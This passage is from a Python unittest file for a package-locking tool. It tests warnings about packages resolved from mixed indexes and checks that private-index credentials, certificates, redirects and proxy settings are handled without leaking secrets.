
    def test_links_have_a_newer_release(self):
        self.link("demo", "99.0")
        self.index.add(wheel("demo", "2.0"))
        for place in (str(self.links), f"{self.extra.base}/links"):
            self.extra.raw["/links"] = ("text/html", b'<a href="files/demo-99.0-py3-none-any.whl">x</a>', {})
            self.extra.add(wheel("demo", "99.0"))
            lines = self.said("-f", place)
            self.assertEqual(lines, [f"warning: demo 99.0 is taken from '{place}'; "
                                     f"'{self.index.url[:-1]}' has 2.0 at most"])

    def test_links_have_an_older_release(self):
        self.link("demo", "1.0")
        self.index.add(wheel("demo", "2.0"))
        lines = self.said("-f", self.links)
        self.assertEqual(lines, [f"warning: demo 2.0 is taken from '{self.index.url[:-1]}'; '{self.links}' has 1.0 at most"])

    def test_nothing_to_say(self):
        self.index.add(wheel("demo", "1.0"))
        self.assertEqual(self.said(), [])
        self.extra.add(wheel("demo", "1.0"), wheel("demo", "2.0rc1"))
        self.link("demo", "1.0")
        self.assertEqual(self.said("--extra-index-url", self.extra.url, "-f", self.links), [])
        self.extra.yanked[self.extra.add(wheel("demo", "3.0")).filename] = "bad"
        self.assertEqual(self.said("--extra-index-url", self.extra.url), [])
        self.assertEqual(self.said("-f", self.links), [])

    def test_two_folders(self):
        self.link("demo", "1.0")
        (self.work / "more").mkdir()
        (self.work / "more" / wheel("demo", "2.0").filename).write_bytes(wheel("demo", "2.0").content)
        result = self.lock_with("--no-index", "-f", self.links, "-f", self.work / "more")
        self.assertNotIn("is taken from", result.err)

    def test_an_index_of_its_own_ends_it(self):
        self.extra.add(wheel("demo", "1.0"))
        self.index.add(wheel("demo", "2.0"))
        self.assertEqual(self.said("--extra-index-url", self.extra.url, "--index-for", f"demo={self.extra.url}"), [])
        self.index.forget()
        self.said("--index", f"x={self.extra.url}", "--index-for", "demo=x", "--extra-index-url", self.extra.url)
        self.assertEqual(self.index.paths(), [])

    def test_many(self):
        names = [f"demo{number}" for number in range(14)]
        self.write("r.in", "\n".join(names))
        for name in names:
            self.extra.add(wheel(name, "1.0"))
            self.index.add(wheel(name, "2.0"))
        result = self.lock_with("-i", self.index.url, "--extra-index-url", self.extra.url,
                                says="other places have other releases of these, too: demo")
        self.assertEqual(result.err.count("is taken from"), 10)

    def test_an_index_that_does_not_answer_has_no_say(self):
        self.extra.add(wheel("demo", "1.0"))
        for status in (500, 403, "cut"):
            self.index.faults.clear()
            self.index.fail("/simple/demo/", *[status] * 20)
            self.index.forget()
            self.assertEqual(self.said("--extra-index-url", self.extra.url, PINBAKE_RETRIES="3"), [])
            self.assertEqual(len(self.index.paths()), 1)
        self.assertEqual(self.said("--extra-index-url", self.extra.url, "-i", "http://127.0.0.1:1/simple"), [])

    def test_json_and_again(self):
        self.extra.add(wheel("demo", "1.0"))
        self.index.add(wheel("demo", "2.0"))
        args = ("-i", self.index.url, "--extra-index-url", self.extra.url)
        for _ in range(2):
            self.assertIn("is taken from", self.lock_with(*args).err)
        result = self.lock_with(*args, "--json")
        self.assertIn("is taken from", __import__("json").loads(result.out)["diagnostics"][0]["message"])


class Legitimate(World):
    """What users did before."""

    def test_private_index_with_netrc(self):
        corp, public = self.secure("corp.test"), self.secure("files.test")
        corp.users["/"] = f"ci:{SECRET}"
        corp.add(wheel("acme-core", "1.0", requires=["demo"]))
        self.netrc(f"machine corp.test\n  login ci\n  password {SECRET}\n")
        self.write("r.in", "acme-core\n")
        args = ("-i", public.url, "--index", f"corp={corp.url}", "--index-for", "acme-*=corp")
        self.lock_with(*args)
        self.assertEqual(self.pins(), {"acme-core": "1.0", "demo": "1.0"})
        self.lock_with(*args, command=("bake",))
        self.assert_got(corp)
        self.assert_nothing_sent(public)

    def test_extra_index_with_its_password(self):
        corp, public = self.secure("corp.test"), self.secure("files.test")
        corp.users["/"] = f"ci:{SECRET}"
        self.lock_with("-i", public.url, "--extra-index-url", f"https://ci:{SECRET}@corp.test/simple")
        self.assertIn("https://corp.test/simple", self.read("pylock.toml"))
        self.write("r.in", f"--extra-index-url https://ci:${{TOKEN}}@corp.test/simple\ndemo\n")
        self.lock_with("-i", public.url, "--refresh", TOKEN=SECRET, PINBAKE_PASSWORD_HOST="corp.test")
        self.assert_got(corp)

    def test_mirror_with_its_own_authority(self):
        corp = self.secure("corp.test")
        cert = self.settings.pop("PINBAKE_CERT")
        self.lock_with("-i", corp.url, code=4, says="SSL_CERT_FILE")
        for name in ("PINBAKE_CERT", "PIP_CERT", "SSL_CERT_FILE", "REQUESTS_CA_BUNDLE"):
            self.lock_with("-i", corp.url, "--refresh", **{name: cert})
        self.lock_with(command=("bake",), SSL_CERT_FILE=cert)

    def test_files_that_moved(self):
        """Redirects to a storage, with ranges."""
        corp, files = self.secure("corp.test"), self.secure("files.test")
        corp.users["/"] = f"ci:{SECRET}"
        corp.core_metadata = False
        path = corp.file_path(wheel("demo", "1.0"))
        corp.fail(path, *[(302, {"Location": f"{files.base}{path}?signed=1"})] * 9)
        self.lock_with("-i", f"https://ci:{SECRET}@corp.test/simple")
        self.lock_with("-i", f"https://ci:{SECRET}@corp.test/simple", command=("bake",))
        self.assert_nothing_sent(files)
        self.assertNotIn("signed", self.read("pylock.toml"))

    def test_no_proxy(self):
        self.lock_with("-i", "https://corp.test/simple", code=4, no_proxy="corp.test")
        self.assertEqual(self.proxy.seen, [])


if __name__ == "__main__":
    unittest.main()
